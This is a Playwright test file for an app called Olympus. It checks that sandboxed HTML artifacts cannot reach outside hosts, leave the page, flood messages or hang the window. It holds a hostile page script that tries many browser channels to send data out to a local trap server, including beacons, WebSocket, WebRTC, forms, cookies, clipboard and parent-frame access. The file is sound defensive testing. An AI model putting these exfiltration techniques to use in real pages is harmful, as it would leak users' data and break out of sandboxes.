import { createSocket } from "node:dgram";
import type { AddressInfo } from "node:net";
import { startTrapServer, type TrapServer } from "#core/testing";
import { answers, answerWith, page, pane, startProvider } from "./artifact-answers.ts";
import { expect, setUpAndOpen, test as base } from "./host.ts";

interface Elsewhere {
  readonly trap: TrapServer;
  /** Where a datagram would arrive. */
  readonly udpPort: number;
  readonly datagramCount: () => number;
}

const test = base.extend<{ elsewhere: Elsewhere }>({
  elsewhere: async ({ browserName: _unused }, provide) => {
    const trap = await startTrapServer();
    const socket = createSocket("udp4");
    let datagrams = 0;
    socket.on("message", () => (datagrams += 1));
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    await provide({ trap, udpPort: (socket.address() as AddressInfo).port, datagramCount: () => datagrams });
    socket.close();
    await trap.close();
  },
});

const runs = (title: string, code: string): string => page(title, `<p id="said">not run</p>\n<script>${code}</script>`);

/** Everything a page can try without leaving; each try says how it ended. */
const everythingAt = (origin: string, udpPort: number): string => `
const said = {};
const say = (name, value) => { said[name] = String(value).slice(0, 60); document.getElementById("said").textContent = JSON.stringify(said); };
const attempt = (name, work) => { try { Promise.resolve(work()).then((value) => say(name, value), (error) => say(name, "refused " + error.name)); } catch (error) { say(name, "refused " + error.name); } };
const add = (html) => document.head.insertAdjacentHTML("beforeend", html);
const T = "${origin}";
attempt("fetch", () => fetch(T + "/fetch", { mode: "no-cors" }));
attempt("keepalive", () => fetch(T + "/keep", { method: "POST", body: "x", mode: "no-cors", keepalive: true }));
attempt("xhr", () => { const request = new XMLHttpRequest(); request.open("GET", T + "/xhr"); request.send(); return "sent"; });
attempt("img", () => { new Image().src = T + "/img?data"; });
attempt("css", () => add("<style>@import '" + T + "/import'; body { background: url(" + T + "/css) } @font-face { font-family: x; src: url(" + T + "/font) } p { font-family: x }</style>"));
attempt("links", () => { for (const rel of ["prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "stylesheet", "icon", "manifest", "prerender"]) add("<link rel=" + rel + " as=script href='" + T + "/" + rel + "'>"); });
attempt("speculation", () => { const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [T + "/speculation"], eagerness: "immediate" }] }); document.head.append(rules); });
attempt("media", () => document.body.insertAdjacentHTML("beforeend", "<video autoplay src='" + T + "/video'></video><object data='" + T + "/object'></object><embed src='" + T + "/embed'><iframe src='" + T + "/frame'></iframe><svg><image href='" + T + "/svg'/><use href='" + T + "/use#a'/></svg><iframe srcdoc='<img src=" + T + "/srcdoc>'></iframe>"));
attempt("script", () => { const script = document.createElement("script"); script.src = T + "/script.js"; document.head.append(script); });
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + T + "/worker')"]))));
attempt("serviceWorker", () => navigator.serviceWorker.register("/artifact-run.html"));
attempt("webSocket", () => new WebSocket(T.replace("http", "ws") + "/ws"));
attempt("eventSource", () => new EventSource(T + "/events"));
attempt("beacon", () => navigator.sendBeacon(T + "/beacon", "data"));
attempt("webRtc", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] }).createDataChannel("x"));
attempt("webTransport", () => new WebTransport(T.replace("http", "https")));
attempt("form", () => { document.body.insertAdjacentHTML("beforeend", "<form id=f method=post action='" + T + "/form'><input name=a value=data></form>"); document.getElementById("f").submit(); });
attempt("blankForm", () => { const form = document.getElementById("f"); form.target = "_blank"; form.submit(); });
attempt("open", () => String(window.open(T + "/open")));
attempt("top", () => { top.location.href = T + "/top"; return "assigned"; });
attempt("download", () => { const link = document.createElement("a"); link.href = "data:text/plain,x"; link.download = "x.txt"; document.body.append(link); link.click(); });
attempt("ping", () => { const link = document.createElement("a"); link.href = "#x"; link.ping = T + "/ping"; document.body.append(link); link.click(); });
attempt("parentDom", () => parent.document.title);
attempt("parentStorage", () => parent.localStorage.length);
attempt("frameElement", () => String(window.frameElement));
attempt("storage", () => localStorage.length);
attempt("cookie", () => { document.cookie = "a=b"; return document.cookie; });
attempt("database", () => new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("opened"); open.onerror = () => reject(open.error); }));
attempt("caches", () => caches.open("x"));
attempt("clipboard", () => navigator.clipboard.writeText("stolen"));
attempt("notification", () => Notification.requestPermission());
attempt("place", () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, (error) => reject({ name: error.code }))));
attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
attempt("fullscreen", () => document.documentElement.requestFullscreen());
attempt("dialog", () => String(confirm("?")));
attempt("origin", () => self.origin);
parent.postMessage("olympus-port", "*");
say("done", "yes");
`;

test("a hostile page reaches nothing: no request, no connection, no datagram, nothing of Olympus", async ({
  page: app,
  host,
  elsewhere,
}) => {
  const { trap, udpPort, datagramCount } = elsewhere;
  await setUpAndOpen(app, host);
  const provider = await startProvider(app, host);
  const opened: string[] = [];
  app.context().on("page", (other) => opened.push(other.url()));
  app.on("download", (download) => opened.push(download.url()));
  app.on("dialog", (dialog) => opened.push(dialog.message()));
  const leaving = {
    location: `location = "${trap.origin}/location?data"`,
    replaced: `location.replace("${trap.origin}/replace?data")`,
    refreshed: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=${trap.origin}/refresh'>")`,
    clicked: `const link = document.createElement("a"); link.href = "${trap.origin}/click"; document.body.append(link); link.click()`,
    named: `const link = document.createElement("a"); link.href = "${trap.origin}/top-click"; link.target = "_top"; document.body.append(link); link.click()`,
    home: `location = "/"`,
    blob: `location = URL.createObjectURL(new Blob(["<script>fetch('${trap.origin}/blob')</" + "script>"], { type: "text/html" }))`,
  };
  await answerWith(
    app,
    provider,
    [
      "Pages:",
      runs("everything", everythingAt(trap.origin, udpPort)),
      ...Object.entries(leaving).map(([name, code]) => runs(name, `setTimeout(() => { ${code} }, 50)`)),
      page(
        "quiet",
        `<link rel=preconnect href="${trap.origin}"><img src="${trap.origin}/img" onerror="document.title='ran'"><meta http-equiv=refresh content="0;url=${trap.origin}/meta"><a href="${trap.origin}/link">a link</a><p id="said">not run</p>`,
      ),
    ].join("\n\n"),
  );
  const frame = pane(app).frameLocator("iframe");
  const open = async (name: string) => {
    await answers(app)
      .last()
      .getByRole("button", { name: `Open ${name}` })
      .click();
    await expect(frame.locator("#said")).toHaveText("not run");
  };

  await open("quiet");
  await frame.getByRole("link", { name: "a link" }).click();
  await expect(pane(app).getByText("It asks for files from elsewhere; they are not loaded.")).toBeVisible();

  await open("everything");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(frame.locator("#said")).toContainText('"done":"yes"');
  await expect(frame.locator("#said")).toContainText('"camera"');
  await app.waitForTimeout(1500);
  const said = JSON.parse(await frame.locator("#said").innerText()) as Record<string, string>;
  const refused = Object.entries(said).flatMap(([name, how]) => (how.startsWith("refused") ? name : []));
  expect(refused).toEqual(
    expect.arrayContaining(
      "fetch keepalive serviceWorker webRtc webTransport top parentDom parentStorage storage cookie database caches clipboard camera fullscreen".split(
        " ",
      ),
    ),
  );
  expect([said["open"], said["origin"], said["dialog"], said["frameElement"]]).toEqual(["null", "null", "false", "null"]);
  expect(await app.evaluate(() => navigator.clipboard.readText().catch(() => "unread"))).not.toBe("stolen");

  for (const name of Object.keys(leaving)) {
    await open(name);
    await pane(app).getByRole("button", { name: "Run" }).click();
    // The browser holds some tries back before the page is left, and answers others with a page of its own.
    await app.waitForTimeout(400);
    await expect(pane(app).getByText(/The page tried to leave and was ended|Its scripts run/)).toBeVisible();
    expect([name, new URL(app.url()).origin]).toEqual([name, host.url]);
  }
  expect([trap.requests, trap.connectionCount(), datagramCount(), opened]).toEqual([[], 0, 0, []]);
  // The trap is one: whoever reaches it is counted.
  await trap.send("a control", null);
  expect([trap.requests.length, trap.connectionCount()]).toEqual([1, 1]);
  await provider.close();
});

test("a page that floods or hangs is shut out, and the window goes on working", async ({ page: app, host }) => {
  await setUpAndOpen(app, host);
  const provider = await startProvider(app, host);
  await answerWith(
    app,
    provider,
    [
      "Pages:",
      runs(
        "flood",
        "setInterval(() => { for (let count = 0; count < 500; count += 1) parent.postMessage({ count, text: 'x'.repeat(1000) }, '*'); }, 1)",
      ),
      runs("hang", "setTimeout(() => { for (;;); }, 200)"),
    ].join("\n\n"),
  );
  const open = (name: string) =>
    answers(app)
      .last()
      .getByRole("button", { name: `Open ${name}` })
      .click();
  await open("flood");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(pane(app).getByText("more messages than Olympus takes")).toBeVisible();
  await expect(pane(app).getByRole("button", { name: "Run" })).toBeVisible();

  await open("hang");
  await pane(app).getByRole("button", { name: "Run" }).click();
  await expect(pane(app).getByText("does not respond")).toBeVisible({ timeout: 20_000 });
  const longestMs = await app.evaluate(
    () =>
      new Promise<number>((resolve) => {
        let last = performance.now();
        let longest = 0;
        const timer = setInterval(() => {
          longest = Math.max(longest, performance.now() - last);
          last = performance.now();
        }, 20);
        setTimeout(() => {
          clearInterval(timer);
          resolve(longest);
        }, 1500);
      }),
  );
  expect(longestMs).toBeLessThan(500);
  // A click of Playwright's asks every frame of the page, also the one that hangs; the browser's own does not.
  const place = await pane(app).getByRole("button", { name: "Stop" }).first().boundingBox();
  if (place === null) throw new Error("no button");
  const session = await app.context().newCDPSession(app);
  for (const type of ["mousePressed", "mouseReleased"] as const)
    void session.send("Input.dispatchMouseEvent", { type, x: place.x + 10, y: place.y + 10, button: "left", clickCount: 1 });
  await expect(pane(app).frameLocator("iframe").locator("#said")).toHaveText("not run");
  await provider.close();
});
